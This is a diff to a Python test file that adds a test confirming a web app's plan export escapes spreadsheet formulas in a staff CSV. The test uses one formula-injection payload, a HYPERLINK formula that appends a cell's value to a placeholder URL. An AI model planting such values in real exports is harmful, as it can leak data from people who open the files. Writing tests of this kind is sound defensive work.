@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from collections.abc import Callable
 from dataclasses import replace
@@ -11,6 +12,7 @@ from zipfile import ZipFile
 import pytest
 from flask import Flask
 
+from planner.check_campaign.canonical import digest_of
 from planner.config import Config
 from planner.config.settings import Approval
 from planner.domain.campaign import Campaign
@@ -20,7 +22,7 @@ from planner.pipeline.read import read_checked_plan
 from planner.store import plans
 from planner.store.database import Database
 from planner.store.journal import load_journal
-from planner.store.plans import load_plan, load_plan_run
+from planner.store.plans import load_plan, load_plan_run, pack_plan, save_plan
 from planner.store.types import PlanState
 from tests.web.conftest import Enter, email_of
 
@@ -147,6 +149,23 @@ def test_what_is_taken_away_passes_the_checker_and_is_written_down(
     assert read_checked_plan(tmp_path / "plan-1") == made
     with database.reading() as session:
         assert load_journal(session, 1)[0].deed == "plan_taken"
+
+
+def test_no_spreadsheet_runs_a_cell_of_what_is_taken_away(
+    enter: Enter, database: Database, tmp_path: Path, made: tuple[Campaign, Run]
+) -> None:
+    campaign, run = made
+    name = '=HYPERLINK("http://x/"&A1,"voir")'
+    staff = {code: replace(person, name=name) for code, person in campaign.staff.items()}
+    named = replace(campaign, staff=staff)
+    named = replace(named, digest=digest_of(named))
+    with database.writing() as session:
+        plan = save_plan(session, 1, 1, pack_plan(replace(run, input_sha256=named.digest), named), "a@b.ma").number
+    with ZipFile(io.BytesIO(enter(email_of("regional")).get(f"/plans/{plan}.zip").data)) as packed:
+        packed.extractall(tmp_path)
+    text = (tmp_path / f"plan-{plan}/campaign/staff.csv").read_text("utf-8")
+    assert {row["name"] for row in csv.DictReader(io.StringIO(text))} == {f"'{name}"}
+    assert read_checked_plan(tmp_path / f"plan-{plan}")[0] == named
 
 
 def test_a_plan_goes_its_way_and_each_step_is_written_down(enter: Enter, database: Database, shown: Shown) -> None:
